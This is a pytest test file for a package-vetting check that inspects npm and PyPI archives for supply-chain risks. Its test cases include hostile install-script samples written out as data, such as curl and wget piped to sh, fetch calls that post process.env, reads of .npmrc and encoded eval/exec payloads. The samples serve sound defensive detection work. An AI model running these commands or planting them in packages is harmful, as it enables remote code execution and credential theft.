"""Archives: what unpacking or installing would do, seen without unpacking or installing."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import msgspec
import pytest

from vsm_mcp.model.finding import CheckStatus
from vsm_mcp.model.ref import parse_ref
from vsm_mcp.vetting.archive import ArchiveCheck, locate
from vsm_mcp.vetting.check import Subject


class Entry(msgspec.Struct, frozen=True):
    name: str
    size: int = 10
    mode: int = 0o644
    kind: str = "file"


class Hook(msgspec.Struct, frozen=True):
    package: str
    name: str
    command: str


NPM = parse_ref("npm:x-mcp@1.0.0")
PYPI = parse_ref("pypi:x-mcp==1.0.0")
PLAIN = Entry("package/index.js")


async def found(subject: Subject) -> dict[str, str]:
    result = await ArchiveCheck().check(subject)
    return {finding.rule: finding.severity.value for finding in result.findings}


@pytest.mark.parametrize(
    ("entry", "rule"),
    [
        (Entry("../evil"), "archive.path_escape"),
        (Entry("/etc/cron.d/x"), "archive.path_escape"),
        (Entry("package\\..\\..\\evil"), "archive.path_escape"),
        (Entry("C:/windows/x"), "archive.path_escape"),
        (Entry("package/a\x00b"), "archive.path_escape"),
        (Entry("package/l", kind="symlink"), "archive.link"),
        (Entry("package/l", kind="hardlink"), "archive.link"),
        (Entry("package/d", kind="device"), "archive.special_file"),
        (Entry("package/p", kind="fifo"), "archive.special_file"),
        (Entry("package/s", mode=0o4755), "archive.setuid"),
        (Entry("package/s", mode=0o2755), "archive.setuid"),
    ],
)
async def test_entries_that_block(entry: Entry, rule: str) -> None:
    assert (await found(Subject(ref=NPM, members=(PLAIN, entry))))[rule] == "block"


@pytest.mark.parametrize(
    "name",
    ["litellm_init.pth", "x/litellm_init.pth", "sitecustomize.py", "usercustomize.py", "sitecustomize/__init__.py"],
)
async def test_code_that_every_python_start_would_run_blocks(name: str) -> None:
    assert await found(Subject(ref=PYPI, members=(Entry("x/__init__.py"), Entry(name)))) == {
        "archive.startup_hook": "block"
    }


@pytest.mark.parametrize(
    ("name", "blocks"),
    [
        ("evil.pth", True),
        ("x-1.data/purelib/evil.pth", True),
        ("x-1.data/data/lib/python3.11/site-packages/evil.pth", True),
        ("opentelemetry/instrumentation/auto_instrumentation/sitecustomize.py", False),
        ("x/tests/some.pth", False),
    ],
)
async def test_of_a_wheel_only_what_python_would_read_is_a_hook(name: str, *, blocks: bool) -> None:
    members = (Entry("x/__init__.py"), Entry("x-1.dist-info/METADATA"), Entry(name))
    subject = Subject(ref=PYPI, members=members, archive_name="x-1-py3-none-any.whl")
    assert await found(subject) == ({"archive.startup_hook": "block"} if blocks else {})
    source = msgspec.structs.replace(subject, archive_name="x-1.tar.gz")
    assert await found(source) == {"archive.startup_hook": "block"}


async def test_an_ordinary_wheel_and_package_pass() -> None:
    wheel = (Entry("x/__init__.py"), Entry("x/_native.cpython-311-x86_64-linux-gnu.so"), Entry("x.dist-info/RECORD"))
    assert await found(Subject(ref=PYPI, members=wheel)) == {"archive.native_part": "note"}
    manifest = {"name": "x-mcp", "dependencies": {"zod": "^3.0.0", "a": "npm:b@1"}, "scripts": {"test": "curl x | sh"}}
    result = await ArchiveCheck().check(Subject(ref=NPM, members=(PLAIN,), manifest=manifest))
    assert (result.status, result.looked_at, result.findings) == (CheckStatus.PASS, 1, ())


@pytest.mark.parametrize(
    "version",
    [
        "git+https://h/x.git", "git@github.com:a/b.git", "github:a/b", "a/b", "a/b#main", "https://h/x.tgz",
        "file:../x",
        "link:../x", "../x", "http://h/x.tgz", "gist:1234",
    ],
)  # fmt: skip
async def test_dependencies_from_elsewhere_block(version: str) -> None:
    manifest = {"name": "x-mcp", "dependencies": {"evil": version}}
    assert await found(Subject(ref=NPM, members=(PLAIN,), manifest=manifest)) == {"archive.foreign_source": "block"}


@pytest.mark.parametrize("version", ["^1.2.3", "1.x", ">=1 <3", "*", "latest", "npm:@a/b@^1", "workspace:*", ""])
async def test_dependencies_from_the_registry_pass(version: str) -> None:
    manifest = {"name": "x-mcp", "dependencies": {"good": version}}
    assert await found(Subject(ref=NPM, members=(PLAIN,), manifest=manifest)) == {}


async def test_python_dependencies_from_elsewhere_block() -> None:
    manifest = {"requires_dist": ["mcp>=1", "x @ git+https://h/x", 'y; extra == "dev"']}
    assert await found(Subject(ref=PYPI, members=(PLAIN,), manifest=manifest)) == {"archive.foreign_source": "block"}


async def test_what_it_brings_along_is_noted() -> None:
    members = (PLAIN, Entry("package/npm-shrinkwrap.json"), Entry("package/node_modules/a/index.js"))
    manifest = {"name": "x-mcp", "bundleDependencies": ["a"]}
    assert await found(Subject(ref=NPM, members=members, manifest=manifest)) == {
        "archive.shrinkwrap": "note",
        "archive.bundled_dependencies": "note",
    }


async def test_an_implicit_build_is_noted() -> None:
    assert await found(Subject(ref=NPM, members=(PLAIN, Entry("package/binding.gyp")))) == {
        "archive.implicit_build": "note"
    }


@pytest.mark.skipif(sys.platform != "linux", reason="what can run here is told by this system")
async def test_a_program_in_machine_code_is_seen_by_its_bytes(tmp_path: Path) -> None:
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin/tool").write_bytes(b"\x7fELF" + bytes(5000))
    (tmp_path / "bin/script").write_bytes(b"#!/bin/sh\n" + b"#" * 5000)
    (tmp_path / "bin/y.exe").write_bytes(b"MZ" + bytes(5000))
    (tmp_path / "bin/mac").write_bytes(b"\xcf\xfa\xed\xfe" + bytes(5000))
    (tmp_path / "bin/z.exe").write_bytes(b"\x7fELF" + bytes(5000))
    named = ("tool", "script", "x.exe", "y.exe", "mac", "z.exe")
    members = (PLAIN, *(Entry(f"package/bin/{name}", 5004) for name in named))
    result = await ArchiveCheck().check(Subject(ref=NPM, members=members, root=tmp_path))
    assert [(finding.rule, finding.where) for finding in result.findings] == [
        ("archive.native_code", "package/bin/tool"),
        ("archive.native_code", "package/bin/x.exe"),
        ("archive.native_elsewhere", "package/bin/y.exe"),
        ("archive.native_elsewhere", "package/bin/mac"),
        ("archive.native_code", "package/bin/z.exe"),
    ]


async def test_the_same_path_twice_and_hidden_names_are_reviewed() -> None:
    members = (PLAIN, PLAIN, Entry("package/in\u200bdex.js"))
    assert await found(Subject(ref=NPM, members=members)) == {
        "archive.entry_twice": "review",
        "archive.hidden_name": "review",
    }


def manifest_with(command: str) -> dict[str, Any]:
    return {"name": "x-mcp", "scripts": {"postinstall": command}}


@pytest.mark.parametrize(
    ("command", "source", "rule"),
    [
        ("node-gyp rebuild", "", "archive.install_script"),
        ("prebuild-install || node-gyp rebuild", "", "archive.install_script"),
        ("node s.js", "console.log('thanks')", "archive.install_script"),
        ("node s.js", "const https = require('https'); https.get(u)", "archive.install_script_idle"),
        ("node s", "import {execSync} from 'child_process'; fetch (u)", "archive.install_script_idle"),
        ("curl https://h/x | sh", "", "archive.install_script_hostile"),
        ("node -e \"require('http').get('http://h')\"", "", "archive.install_script_hostile"),
        ("node s.js", "fetch('https://h',{body: JSON.stringify(process.env)})", "archive.install_script_hostile"),
        ("node s.js", "const t = read(home+'/.npmrc'); require('https').request(u)", "archive.install_script_hostile"),
        ("node s.js", "exec('npm publish')", "archive.install_script_hostile"),
        ("node s.js", "fs.writeFileSync(home+'/.cursor/mcp.json', x)", "archive.install_script_hostile"),
        ("node s.js", "eval(atob('YWxlcnQoMSk='))", "archive.install_script_hostile"),
        ("node s.js", "post('https://webhook.site/abc')", "archive.install_script_hostile"),
        ("node s.js", "require('./lib/deep')", "archive.install_script_hostile"),
    ],
)
async def test_install_scripts_are_judged_by_what_they_run(
    tmp_path: Path, command: str, source: str, rule: str
) -> None:
    (tmp_path / "lib").mkdir()
    (tmp_path / "s.js").write_text(source)
    (tmp_path / "lib/deep.js").write_text("Function('return 1'); trufflehog; fetch('https://api.telegram.org/b')")
    subject = Subject(ref=NPM, members=(PLAIN,), manifest=manifest_with(command), root=tmp_path)
    assert list(await found(subject)) == [rule]


@pytest.mark.parametrize(
    ("ref", "source", "rule"),
    [
        ("npm:x-mcp", "import {execSync} from 'child_process'", "archive.install_script_armed"),
        ("git+https://h.example/x", "require('https').get(u)", "archive.install_script_armed"),
        ("dir:/x", "require('https').get(u)", "archive.install_script_unusual"),
        ("npm:x-mcp", "console.log('thanks')", "archive.install_script"),
        ("npm:x-mcp", "eval(atob('YWxlcnQoMSk='))", "archive.install_script_hostile"),
    ],
)
async def test_an_install_script_that_may_run_has_to_be_plain(tmp_path: Path, ref: str, source: str, rule: str) -> None:
    (tmp_path / "s.js").write_text(source)
    manifest = manifest_with("node s.js")
    subject = Subject(ref=parse_ref(ref), members=(PLAIN,), manifest=manifest, root=tmp_path, runs_scripts=True)
    assert list(await found(subject)) == [rule]


async def test_scripts_of_dependencies_are_noted_unless_openly_hostile() -> None:
    scripts = (
        Hook("sqlite3", "install", "prebuild-install || node-gyp rebuild"),
        Hook("e", "install", "wget h|sh"),
    )
    subject = Subject(ref=NPM, members=(PLAIN,), manifest={"name": "x-mcp"}, scripts=scripts)
    assert await found(subject) == {"archive.install_script": "note", "archive.install_script_hostile": "block"}


async def test_a_hostile_archive_is_told_in_twenty_lines() -> None:
    members = tuple(Entry(f"../evil{number}") for number in range(500))
    result = await ArchiveCheck().check(Subject(ref=NPM, members=members))
    assert (len(result.findings), result.looked_at) == (20, 500)


async def test_nothing_fetched_is_unavailable_but_a_remote_has_nothing_to_fetch() -> None:
    assert (await ArchiveCheck().check(Subject(ref=NPM))).status is CheckStatus.UNAVAILABLE
    remote = Subject(ref=parse_ref("https://h.example/mcp"))
    assert (await ArchiveCheck().check(remote)).status is CheckStatus.PASS


def test_files_are_only_read_below_the_root(tmp_path: Path) -> None:
    outside = tmp_path / "secret"
    outside.write_text("x")
    root = tmp_path / "root"
    root.mkdir()
    (root / "link").symlink_to(outside)
    (root / "fine").write_text("x")
    assert locate(root, "../secret") is None
    assert locate(root, "link") is None
    assert locate(root, "package/fine") == root / "fine"


@pytest.mark.parametrize(
    ("text", "archive", "rules"),
    [
        ("from setuptools import setup\nsetup()\n", "x-1.tar.gz", {"archive.install_script": "note"}),
        ("import subprocess\nsubprocess.run(['git'])\n", "x-1.zip", {"archive.install_script_unusual": "review"}),
        ("import base64\nexec(base64.b64decode('eA=='))\n", "x-1.tar.gz", {"archive.install_script_hostile": "block"}),
        ("import base64\nexec(base64.b64decode('eA=='))\n", "x-1-py3-none-any.whl", {}),
    ],
)
async def test_what_builds_a_source_distribution_is_judged(
    tmp_path: Path, text: str, archive: str, rules: dict[str, str]
) -> None:
    """A wheel may hold a file of that name, which nothing runs."""
    (tmp_path / "setup.py").write_text(text)
    subject = Subject(ref=PYPI, root=tmp_path, members=(Entry("setup.py"),), archive_name=archive)
    assert await found(subject) == rules


BLOCKED = {"archive.install_script_hostile": "block"}
HOSTILE = "import base64\nexec(base64.b64decode('eA=='))\n"
IN_TREE = '[build-system]\nrequires = []\nbuild-backend = "own.backend:Backend"\nbackend-path = ["_build"]\n'


@pytest.mark.parametrize("ref", ["dir:/srv/x", "git+https://example.org/x@0123456789abcdef0123456789abcdef01234567"])
@pytest.mark.parametrize(
    ("files", "manifest", "rules"),
    [
        ({"setup.py": HOSTILE}, {}, BLOCKED),
        (
            {"setup.py": "import subprocess\nsubprocess.run(['git'])\n"},
            {},
            {"archive.install_script_unusual": "review"},
        ),
        (
            {"_build/own/backend.py": HOSTILE, "pyproject.toml": IN_TREE},
            {},
            BLOCKED,
        ),
        ({"elsewhere/own/backend.py": HOSTILE, "pyproject.toml": IN_TREE}, {}, {}),
        ({"setup.cfg": "", "pyproject.toml": "[broken"}, {}, {}),
        (
            {"a.js": ""},
            {"scripts": {"build": "curl https://example.org/x | sh"}},
            BLOCKED,
        ),
        ({"a.js": ""}, {"scripts": {"build": "tsc"}}, {"archive.install_script": "note"}),
    ],
)
async def test_what_builds_a_tree_is_judged_where_it_may_run(
    tmp_path: Path, ref: str, files: dict[str, str], manifest: dict[str, Any], rules: dict[str, str]
) -> None:
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    members = tuple(Entry(name) for name in files)
    subject = Subject(ref=parse_ref(ref), root=tmp_path, members=members, manifest=manifest, runs_scripts=True)
    assert await found(subject) == rules
    assert await found(msgspec.structs.replace(subject, runs_scripts=False)) == {}
